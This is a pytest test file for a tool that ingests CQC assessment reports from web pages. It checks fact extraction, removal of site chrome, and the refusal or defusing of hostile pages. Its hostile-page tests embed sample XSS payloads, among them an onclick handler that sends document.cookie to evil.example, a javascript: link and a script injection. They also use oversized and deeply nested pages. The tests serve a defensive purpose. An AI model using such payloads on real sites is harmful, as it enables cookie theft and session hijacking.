"""Web pages (HTML) read as the reader reads text: the corpus served as the site would serve it,
chrome and all, gives the same facts as the texts; hostile pages are refused or made harmless."""

from __future__ import annotations

import hashlib
import re
import subprocess
import sys
from pathlib import Path

import httpx
import pyoxigraph as ox
import pytest

from conftest import run_server
from cqckg.core.authorities import AuthorityRegistry
from cqckg.core.errors import DocumentError
from cqckg.core.namespaces import CQC
from cqckg.core.paths import graph_dir
from cqckg.core.vocabulary import load_vocabulary
from cqckg.ingest import extract_document, ingest
from cqckg.ingest.verify import verify_store
from cqckg.read import Document, read_document, read_documents
from cqckg.read import limits as ingest_limits
from cqckg.read.convert import MAX_FILE_BYTES, nesting
from cqckg.read.html_text import extract_page
from cqckg.store import OxigraphStore
from report_files import anchors, facts, split_header, web_page

SOURCES = graph_dir() / "sources"
TEXTS = sorted(
    p for p in SOURCES.rglob("*") if p.suffix in (".md", ".txt") and p.name != "README.md"
)
CHROME_WORDS = (
    "Skip to main content",
    "Cookies on the CQC website",
    "Accept additional cookies",
    "Find and compare services",
    "Local authority assessment reports",  # the breadcrumb's last step
    "Other assessment reports",
    "Contact us",
    "acceptCookies",
    "tracker.example",
    "turn on JavaScript",
    "WebPage",
)


def _name(path: Path) -> str:
    return f"{path.parent.name}/{path.name}"


@pytest.fixture(scope="session")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every corpus text as a web page of the site, in folders as the texts are (made once)."""
    root = tmp_path_factory.mktemp("pages")
    for text in TEXTS:
        folder = root / text.parent.name
        folder.mkdir(exist_ok=True)
        page = web_page(text.read_text(encoding="utf-8"), text.suffix == ".md")
        (folder / f"{text.stem}.html").write_text(page, encoding="utf-8")
    return root


@pytest.fixture(scope="session")
def read_pages(pages: Path) -> dict[str, Document]:
    return {_name(p): read_document(p) for p in sorted(pages.rglob("*.html"))}


@pytest.mark.parametrize("text", TEXTS, ids=_name)
def test_page_gives_the_facts_of_the_text(
    text: Path, pages: Path, read_pages: dict[str, Document]
) -> None:
    vocab, registry = load_vocabulary(), AuthorityRegistry.load()
    page = read_pages[f"{text.parent.name}/{text.stem}.html"]
    expected = facts(extract_document(read_document(text), vocab, registry))
    extraction = extract_document(page, vocab, registry)
    found = facts(extraction)
    # every score and the rating, and at least 98% of the rest
    assert {f for f in expected if f[0] in ("score", "rating")} <= found
    others = {f for f in expected if f[0] not in ("score", "rating")}
    missing = others - found
    assert len(missing) <= 0.02 * len(others), sorted(missing)[:10]
    # every anchor points into the extracted text
    for a in anchors(extraction):
        assert a.document_sha256 == page.sha256
        assert page.text[a.start : a.end] == a.exact


@pytest.mark.parametrize("text", TEXTS, ids=_name)
def test_page_is_recognised_as_the_text_is(text: Path, read_pages: dict[str, Document]) -> None:
    page = read_pages[f"{text.parent.name}/{text.stem}.html"]
    plain = read_document(text)
    assert (page.kind, page.authority_gss, page.published, page.pilot) == (
        plain.kind,
        plain.authority_gss,
        plain.published,
        plain.pilot,
    )
    assert page.quality_statement == plain.quality_statement
    # the address comes from the page's canonical link when the text had a Source: line
    assert page.source_url == split_header(text.read_text(encoding="utf-8"))[0]
    assert page.origin is not None and page.origin.media_type == "text/html"
    assert page.origin.file_sha256 == hashlib.sha256(page.path.read_bytes()).hexdigest()
    assert page.sha256 == hashlib.sha256(page.text.encode()).hexdigest()
    for word in CHROME_WORDS:
        assert word not in page.text


@pytest.mark.parametrize(
    ("text", "main"),
    [
        (SOURCES / "westminster-2024" / "qs-supporting-people-healthier-lives.txt", 'id="content"'),
        (SOURCES / "camden" / "camden-0225.txt", 'class="page"'),  # no name for the content
    ],
    ids=["content-div", "anonymous-div"],
)
def test_page_of_divs_only_loses_its_chrome(text: Path, main: str, tmp_path: Path) -> None:
    """The same page built of <div>s, as older sites are: its parts known by class and id."""
    page = web_page(text.read_text(encoding="utf-8"), markdown=False)
    for tag, name in (
        ("header", 'class="header"'),
        ("nav", 'class="menu"'),
        ("main", main),
        ("aside", 'class="sidebar"'),
        ("footer", 'id="footer"'),
    ):
        page = re.sub(rf"<{tag}\b[^>]*>", f"<div {name}>", page).replace(f"</{tag}>", "</div>")
    assert "<main" not in page and "<nav" not in page
    divs = tmp_path / text.parent.name / f"{text.stem}.html"
    divs.parent.mkdir()
    divs.write_text(page, encoding="utf-8")
    vocab, registry = load_vocabulary(), AuthorityRegistry.load()
    found = facts(extract_document(read_document(divs), vocab, registry))
    assert found == facts(extract_document(read_document(text), vocab, registry))
    for word in CHROME_WORDS:
        assert word not in read_document(divs).text


def test_address_from_og_url_when_no_canonical_link() -> None:
    page = extract_page(
        '<html><head><meta property="og:url" content="https://www.cqc.org.uk/r/x-0125">'
        '<link rel="canonical" href="javascript:alert(1)"></head>'
        "<body><main><h1>T</h1><p>Text.</p></main></body></html>"
    )
    assert page.source_url == "https://www.cqc.org.uk/r/x-0125"
    assert page.text.startswith("Source: https://www.cqc.org.uk/r/x-0125\n\n# T\n\n")


def test_a_source_line_in_the_page_wins() -> None:
    page = extract_page(
        '<html><head><link rel="canonical" href="https://a.example/one"></head><body><main>'
        "<p>Source: https://b.example/two</p><h1>T</h1></main></body></html>"
    )
    assert page.text.count("Source:") == 1
    assert page.text.startswith("Source: https://b.example/two")


def test_page_without_main_loses_its_chrome() -> None:
    page = extract_page(
        "<html><body><header><a>Site</a></header><nav><a>Home</a></nav>"
        '<div class="cookie-notice">We use cookies</div><div id="content"><h1>Report</h1>'
        '<p style="display: none">hidden</p><p hidden>also hidden</p>'
        '<p>Shown <span onclick="steal()">text</span>.</p>'
        "<table><tr><th>Statement</th><th>Score</th></tr><tr><td>Safeguarding</td><td>3</td>"
        "</tr></table><ol start=4><li>four</li><li>five</li></ol></div>"
        "<footer>Footer</footer></body></html>"
    )
    assert page.text == (
        "# Report\n\nShown text.\n\nStatement | Score\n\nSafeguarding | 3\n\n4. four\n\n5. five\n\n"
    )


def test_a_heading_above_the_main_content_is_the_title() -> None:
    page = extract_page(
        "<body><div class=hero><h1>Camden: local authority assessment</h1></div>"
        "<main><h2>Assessing needs</h2><p>Score: 3</p></main></body>"
    )
    assert page.text == "# Camden: local authority assessment\n\n## Assessing needs\n\nScore: 3\n\n"


def test_markup_written_as_text_stays_text() -> None:
    page = extract_page("<main><h1>T</h1><p># not a heading</p><p>---</p></main>")
    assert page.text == "# T\n\n\\# not a heading\n\n\\---\n\n"


def test_folders_expand_to_web_pages(pages: Path) -> None:
    docs = read_documents([pages / "camden"])
    assert [d.path.name for d in docs] == sorted(p.name for p in (pages / "camden").iterdir())


def test_ingested_pages_keep_both_hashes_and_verify(pages: Path, tmp_path: Path) -> None:
    store = OxigraphStore(tmp_path / "store")
    ingest([pages / "westminster-2024"], store)
    rows = store.select(
        f"SELECT ?doc ?file ?format WHERE {{ ?doc <{CQC.fileSha256}> ?file ; "
        "<http://purl.org/dc/terms/format> ?format }"
    )
    assert len(rows) == 5
    on_disk = {
        hashlib.sha256(p.read_bytes()).hexdigest() for p in (pages / "westminster-2024").iterdir()
    }
    assert {r["file"].value for r in rows} == on_disk  # type: ignore[union-attr]
    assert {r["format"].value for r in rows} == {"text/html"}  # type: ignore[union-attr]
    report = verify_store(store, pages)
    assert report.ok, report.problems
    assert report.anchors > 500
    # a page changed on disk: its file hash no longer matches
    page = pages / "westminster-2024" / "press-release.html"
    saved = page.read_bytes()
    try:
        page.write_bytes(saved.replace(b"</body>", b"<p>Added later.</p></body>"))
        problems = verify_store(store, pages).problems
    finally:
        page.write_bytes(saved)
    assert len(problems) == 1 and "press-release.html: file changed" in problems[0]
    store.close()


def test_rebuilding_from_the_store_keeps_the_origin(pages: Path, tmp_path: Path) -> None:
    """A stored page is re-read (from its stored text) when a new document joins its
    assessment; the rebuilt graph still says it was a web page, with its file's hash."""
    store = OxigraphStore(tmp_path / "store")
    ingest([pages / "westminster-2024" / "full-report.html"], store)
    ingest([SOURCES / "westminster-2024" / "press-release.txt"], store)
    rows = store.select(
        f"SELECT ?path ?file WHERE {{ ?doc <{CQC.sourcePath}> ?path . "
        f"OPTIONAL {{ ?doc <{CQC.fileSha256}> ?file }} }}"
    )
    found = {r["path"].value: r["file"] for r in rows}  # type: ignore[union-attr]
    assert set(found) == {"westminster-2024/full-report.html", "westminster-2024/press-release.txt"}
    report_hash = found["westminster-2024/full-report.html"]
    assert report_hash is not None
    assert (
        report_hash.value
        == hashlib.sha256(
            (pages / "westminster-2024" / "full-report.html").read_bytes()
        ).hexdigest()
    )
    assert found["westminster-2024/press-release.txt"] is None
    store.close()


# -- hostile pages ---------------------------------------------------------------------------------


def _cli_ingest(store: Path, *paths: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "cqckg.cli", "ingest", "--no-progress", "--store", str(store)]
    return subprocess.run(
        [*command, *map(str, paths)], capture_output=True, text=True, timeout=120, check=False
    )


def _assessments(store: Path) -> int:
    """How many assessments a store holds (none when there is no store)."""
    if not store.exists():
        return 0
    query = f"SELECT ?a WHERE {{ GRAPH ?g {{ ?a a <{CQC.Assessment}> }} }}"
    return len(list(ox.Store.read_only(str(store)).query(query)))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("binary.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "binary"),
        ("latin.html", "<p>caf\u00e9 \u00e9t\u00e9</p>".encode("latin-1"), "encoding"),
        ("empty-main.html", b"<html><body><main><script>x()</script></main></body>", "empty"),
        ("unknown-charset.html", b'<meta charset="x-klingon"><p>Qapla</p>', "encoding"),
    ],
)
def test_bad_page_is_one_clear_error_and_nothing_is_written(
    tmp_path: Path, pages: Path, name: str, content: bytes, rule: str
) -> None:
    bad = tmp_path / "in" / name
    bad.parent.mkdir()
    bad.write_bytes(content)
    with pytest.raises(DocumentError) as raised:
        read_document(bad)
    assert raised.value.rule == rule
    # with a good page beside it, the CLI refuses the run: exit code 2, nothing in the store
    done = _cli_ingest(tmp_path / "store", pages / "camden" / "camden-0225.html", bad)
    assert done.returncode == 2, done.stderr
    first = done.stderr.splitlines()[0]
    assert f"{bad}" in first and f"[{rule}]" in first
    assert "Traceback" not in done.stderr
    assert _assessments(tmp_path / "store") == 0


def test_fifty_megabyte_page_is_refused_before_it_is_read(tmp_path: Path) -> None:
    big = tmp_path / "big.html"
    block = b"<p>" + b"All work and no play makes a dull report. " * 100 + b"</p>\n"
    with big.open("wb") as out:
        for _ in range(50 * 1024 * 1024 // len(block) + 1):
            out.write(block)
    assert big.stat().st_size > MAX_FILE_BYTES
    with pytest.raises(DocumentError) as raised:
        read_document(big)
    assert raised.value.rule == "size-limit"
    assert str(big) in str(raised.value)


def test_deeply_nested_page_is_held_to_the_time_budget(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Tree building is quadratic in nesting depth (40,000 deep: about 20 s): such a page is
    parsed in a child held to the budget (2 s of CPU here), and refused when it passes it."""
    monkeypatch.setattr(ingest_limits, "SECONDS_BUDGET", 2)
    deep = tmp_path / "deep.html"
    deep.write_text("<main><h1>T</h1>" + "<div><b>" * 200_000 + "x" + "</b></div>" * 200_000)
    assert nesting(deep.read_text()) == 400_001
    with pytest.raises(DocumentError) as raised:
        read_document(deep)
    assert raised.value.rule == "resource-limit"
    assert "2 s of CPU time" in raised.value.message


def test_scripts_and_handlers_never_run_and_show_escaped(tmp_path: Path) -> None:
    """A page with scripts, event handlers and markup written as text: the scripts are not in
    the text (nothing here runs them), the text's markup is shown escaped by the web UI."""
    source = SOURCES / "westminster-2024" / "qs-equity-experience-outcomes.txt"
    page = web_page(source.read_text(encoding="utf-8"), markdown=False)
    hostile = (
        "<p onclick=\"fetch('https://evil.example/'+document.cookie)\">Staff said "
        "&lt;script&gt;alert('x')&lt;/script&gt; was typed into a form.</p>"
        '<img src="x" onerror="alert(2)"><iframe src="https://evil.example/"></iframe>'
        "<script>document.write('injected by script')</script>"
    )
    page = page.replace("<h2>What people expect</h2>", hostile + "<h2>What people expect</h2>")
    path = tmp_path / "westminster" / "qs.html"
    path.parent.mkdir()
    path.write_text(page, encoding="utf-8")
    doc = read_document(path)
    assert "Staff said <script>alert('x')</script> was typed into a form." in doc.text
    for word in ("evil.example", "onclick", "onerror", "alert(2)", "injected by script"):
        assert word not in doc.text
    folder = tmp_path / "server"
    folder.mkdir()
    dated = SOURCES / "westminster-2024" / "press-release.txt"  # says when it was published
    done = _cli_ingest(folder / "store", path, dated)
    assert done.returncode == 0, done.stderr
    with run_server(folder) as server:
        answer = httpx.get(f"{server.url}/doc/source/{doc.sha256}", timeout=30)
    assert answer.status_code == 200
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in answer.text
    assert "<script>alert(" not in answer.text
    assert "The text extracted from the web page" in answer.text


def test_cli_verify_checks_the_pages_it_is_pointed_at(pages: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    assert _cli_ingest(store, pages / "camden").returncode == 0
    command = [sys.executable, "-m", "cqckg.cli", "verify", "--store", str(store)]
    done = subprocess.run(
        [*command, "--sources", str(pages)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.strip().endswith("0 problem(s)")
    page = pages / "camden" / "camden-0225.html"
    saved = page.read_bytes()
    try:
        page.write_bytes(saved.replace(b"Camden", b"Kamden", 1))
        done = subprocess.run(
            [*command, "--sources", str(pages)],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    finally:
        page.write_bytes(saved)
    assert done.returncode == 1
    assert f"{page}: file changed since it was ingested" in done.stdout
